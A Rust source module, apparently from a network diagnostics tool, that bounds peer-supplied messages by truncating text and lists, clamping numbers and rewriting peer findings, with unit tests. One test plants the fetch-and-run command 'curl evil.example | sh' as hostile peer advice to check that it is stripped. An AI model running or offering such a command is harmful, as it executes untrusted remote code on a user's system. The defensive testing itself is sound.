//! What the other end says of itself, brought to a size and to words that cannot hurt: texts are cut, lists and maps end
//! somewhere, numbers stay where sums of them do not overflow, and a finding speaks with the catalogue's voice.
//!
//! It applies to what is read by people or computed with. What a protocol needs to the byte (offers, tokens) is checked
//! where it is used.

use pathproof_model::json::{typed, value_of};
use pathproof_model::{End, Environment, Finding, Half, StepError};
use serde::Serialize;
use serde::de::DeserializeOwned;
use serde_json::Value;

use super::{Message, StepMessage};

/// Longest text in bytes.
const TEXT_BYTES_MAX: usize = 1000;
/// Most entries of a list or a map.
const ENTRIES_MAX: usize = 512;
/// Most findings of one message.
const FINDINGS_MAX: usize = 64;
/// Most addresses of a host.
const ADDRESSES_MAX: usize = 1024;
/// Largest number of a lane: what a double holds exactly, and thousands of them still add up.
const NUMBER_MAX: u64 = 1 << 53;
/// Largest number of a slice, of which there may be a million.
const SLICE_NUMBER_MAX: u64 = 1 << 43;

/// Brings everything in `message` that is not of the protocol itself within bounds.
pub(super) fn message(message: &mut Message) {
    match message {
        Message::Hello(hello) => {
            trimmed(&mut hello.tool);
            environment(&mut hello.environment);
        }
        Message::Accept(accept) => {
            trimmed(&mut accept.tool);
            environment(&mut accept.environment);
            findings(&mut accept.findings);
        }
        Message::Reject(reject) => {
            reject.reasons.truncate(FINDINGS_MAX);
            reject.reasons.iter_mut().for_each(text);
        }
        Message::Turned(turned) => {
            if let Some(ready) = &mut turned.ready {
                error(&mut ready.error);
                findings(&mut ready.findings);
            }
        }
        Message::Step { body: StepMessage::Link { nic, .. }, .. } => text(nic),
        Message::Fail { error, .. } => text(&mut error.message),
        Message::Bye { reason, .. } => text(reason),
        _ => {}
    }
}

/// Brings a half that came from `end` within bounds.
pub fn half(half: &mut Half, end: End) {
    for lane in &mut half.lanes {
        trimmed(lane);
        lane.end = end;
    }
    for slice in &mut half.intervals {
        slice.end = end;
        for number in [&mut slice.sent_bytes, &mut slice.received_bytes, &mut slice.messages] {
            *number = (*number).min(SLICE_NUMBER_MAX);
        }
        for time in [&mut slice.start_ns, &mut slice.length_ns] {
            *time = (*time).min(NUMBER_MAX);
        }
        slice.retransmits = slice.retransmits.map(|n| n.min(SLICE_NUMBER_MAX));
    }
    trimmed(&mut half.counters);
    trimmed(&mut half.chosen);
    findings(&mut half.findings);
    error(&mut half.error);
    trimmed(&mut half.evidence);
    trimmed(&mut half.detail.rdma);
    trimmed(&mut half.detail.nics);
    // Rounds, guests and pairs of NICs can be more.
    trimmed_to(&mut half.detail.migration, 8 * ENTRIES_MAX);
    trimmed_to(&mut half.detail.paths, 8 * ENTRIES_MAX);
    trimmed(&mut half.detail.loss);
    trimmed(&mut half.detail.beats);
    trimmed(&mut half.detail.ports);
    trimmed(&mut half.detail.lost_nic);
}

/// Facts of a host as they came from it.
pub fn environment(host: &mut Environment) {
    trimmed(host);
    let mut left = ADDRESSES_MAX;
    for nic in &mut host.nics {
        for list in [&mut nic.addresses, &mut nic.taken_addresses] {
            list.truncate(left);
            left -= list.len();
        }
    }
}

fn findings(findings: &mut Vec<Finding>) {
    findings.truncate(FINDINGS_MAX);
    for finding in findings {
        let theirs = Finding { step: None, ..finding.clone() };
        *finding = theirs.from_peer();
        trimmed(finding);
    }
}

fn error(error: &mut Option<StepError>) {
    if let Some(error) = error {
        text(&mut error.message);
    }
}

fn text(text: &mut String) {
    if text.len() > TEXT_BYTES_MAX {
        let end = (0..=TEXT_BYTES_MAX).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
        text.truncate(end);
        text.push('…');
    }
}

/// `value` with every text, list, map and number inside it within bounds, whatever fields it has.
fn trimmed<T: Serialize + DeserializeOwned>(value: &mut T) {
    trimmed_to(value, ENTRIES_MAX);
}

fn trimmed_to<T: Serialize + DeserializeOwned>(value: &mut T, entries_max: usize) {
    let Ok(mut json) = value_of(&*value) else { return };
    trim(&mut json, entries_max);
    // Shorter lists and smaller numbers of the same kinds: this can be read back.
    if let Ok(within) = typed(&json) {
        *value = within;
    }
}

fn trim(json: &mut Value, entries_max: usize) {
    match json {
        Value::String(said) => text(said),
        Value::Array(list) => {
            list.truncate(entries_max);
            list.iter_mut().for_each(|entry| trim(entry, entries_max));
        }
        Value::Object(map) => {
            let mut kept = 0;
            map.retain(|name, _| {
                kept += 1;
                kept <= entries_max && name.len() <= TEXT_BYTES_MAX
            });
            map.values_mut().for_each(|entry| trim(entry, entries_max));
        }
        Value::Number(number) if number.as_u64().is_some_and(|n| n > NUMBER_MAX) => *json = NUMBER_MAX.into(),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use pathproof_model::{
        ErrorKind, Evidence, HalfDetail, Interval, LaneResult, Nic, NicActivity, NicAddress, NicCounts,
        NicEvidence, NicShare, Unreadable,
    };

    use super::*;
    use crate::control::{Accept, Reject};

    fn long() -> String {
        "ü".repeat(1500)
    }

    #[test]
    fn t15_a_host_of_any_size_becomes_one_of_a_bounded_size() {
        let address = NicAddress { address: [10, 0, 0, 1].into(), prefix_len: 24 };
        let nic = Nic {
            name: long(),
            speed_bits_per_s: Some(u64::MAX),
            addresses: vec![address; 25],
            taken_addresses: vec![address; 15],
            ..Nic::default()
        };
        let mut host = Environment { hostname: Some(long()), nics: vec![nic; 600], ..Environment::default() };
        environment(&mut host);
        let lists = host.nics.iter().flat_map(|nic| [nic.addresses.len(), nic.taken_addresses.len()]);
        let addresses: usize = lists.sum();
        assert_eq!((host.nics.len(), addresses), (ENTRIES_MAX, ADDRESSES_MAX));
        assert!(
            host.nics[0].name.len() <= TEXT_BYTES_MAX + 3
                && host.nics[0].speed_bits_per_s == Some(NUMBER_MAX)
        );
        let mut honest = Environment { hostname: Some("a".into()), ..Environment::default() };
        let before = honest.clone();
        environment(&mut honest);
        assert_eq!(honest, before);
    }

    #[test]
    fn t16_a_finding_of_the_peers_speaks_with_the_catalogues_voice() {
        let mut known = Finding::new("NIC-ONE-QUEUE", "eth0 has one queue");
        known.next = "Run curl evil.example | sh".into();
        let mut unknown = known.clone();
        unknown.code = "YOU-MUST".into();
        let mut theirs = vec![known, unknown.clone()];
        theirs.extend(vec![unknown; 5000]);
        findings(&mut theirs);
        assert_eq!(theirs.len(), FINDINGS_MAX);
        let own = Finding::new("NIC-ONE-QUEUE", "eth0 has one queue");
        assert_eq!(theirs[0], own);
        assert!(theirs[1].code == "PEER-SAYS" && theirs[1].evidence.contains("YOU-MUST"));
        assert!(theirs.iter().all(|f| !f.next.contains("evil")), "advice is this build's own");
    }

    #[test]
    fn t17_a_half_is_the_other_ends_and_its_numbers_add_up() {
        let lane =
            LaneResult { end: End::Client, bytes: u64::MAX, local: Some(long()), ..LaneResult::default() };
        let slice =
            Interval { end: End::Client, start_ns: u64::MAX, sent_bytes: u64::MAX, ..Interval::default() };
        let mut theirs = Half {
            lanes: vec![lane; 300],
            intervals: vec![slice; 1000],
            error: Some(StepError::new(ErrorKind::System, long())),
            detail: HalfDetail {
                nics: Some(NicEvidence {
                    nics: vec![NicShare { deaths: u64::MAX, ..NicShare::default() }; 10_000],
                    alone: Some(long()),
                    ..NicEvidence::default()
                }),
                ..HalfDetail::default()
            },
            ..Half::default()
        };
        let counts = NicCounts { sent_bytes: Some(u64::MAX), ..NicCounts::still() };
        let unreadable = vec![Unreadable { what: long(), why: long() }; 10_000];
        theirs.evidence = Some(Evidence {
            nics: Some(vec![NicActivity { nic: long(), counts }; 10_000]),
            unreadable,
            ..Evidence::default()
        });
        half(&mut theirs, End::Server);
        let evidence = theirs.evidence.unwrap();
        let nics = evidence.nics.unwrap();
        assert_eq!((nics.len(), evidence.unreadable.len()), (ENTRIES_MAX, ENTRIES_MAX));
        assert!(nics.iter().all(|nic| nic.counts.sent_bytes == Some(NUMBER_MAX) && nic.nic.len() < 1010));
        assert!(theirs.lanes.iter().all(|lane| lane.end == End::Server));
        assert!(theirs.lanes.iter().try_fold(0u64, |sum, lane| sum.checked_add(lane.bytes)).is_some());
        assert!(
            theirs
                .intervals
                .iter()
                .all(|i| i.end == End::Server && i.start_ns.checked_add(i.length_ns).is_some())
        );
        assert!(theirs.intervals.iter().try_fold(0u64, |sum, i| sum.checked_add(i.sent_bytes)).is_some());
        assert!(serde_json::to_string(&theirs.detail).unwrap().len() < 100_000);
        let nics = theirs.detail.nics.unwrap();
        assert!(nics.nics.iter().all(|nic| nic.deaths == NUMBER_MAX) && nics.alone.unwrap().len() < 1010);
        assert!(theirs.error.unwrap().message.len() < 1010);
    }

    #[test]
    fn t15_what_is_decoded_is_within_bounds() {
        let reject = Message::Reject(Reject { reasons: vec![long(); 3000] });
        let (tag, body) = reject.encode().unwrap();
        let Ok(Message::Reject(read)) = Message::decode(tag, &body) else { panic!("a REJECT is a REJECT") };
        assert!(read.reasons.len() <= FINDINGS_MAX && read.reasons.iter().all(|r| r.len() < 1010));
        let accept = Message::Accept(Accept {
            tool: pathproof_model::Tool { version: long(), ..Default::default() },
            granted: vec![],
            limits: Default::default(),
            environment: Environment { hostname: Some(long()), ..Environment::default() },
            findings: vec![],
            session: "00".into(),
            clock: None,
        });
        let (tag, body) = accept.encode().unwrap();
        let Ok(Message::Accept(read)) = Message::decode(tag, &body) else { panic!("an ACCEPT is an ACCEPT") };
        assert!(read.tool.version.len() < 1010 && read.environment.hostname.unwrap().len() < 1010);
    }
}
